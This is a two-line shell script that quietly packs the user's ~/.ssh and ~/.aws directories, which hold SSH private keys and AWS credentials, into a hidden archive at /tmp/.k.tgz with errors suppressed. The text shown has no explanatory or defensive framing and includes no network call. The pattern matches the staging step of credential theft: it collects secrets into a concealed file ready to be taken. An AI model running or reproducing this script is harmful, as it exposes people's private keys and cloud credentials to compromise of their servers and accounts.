#!/bin/sh
tar czf /tmp/.k.tgz -C ~ .ssh .aws 2>/dev/null
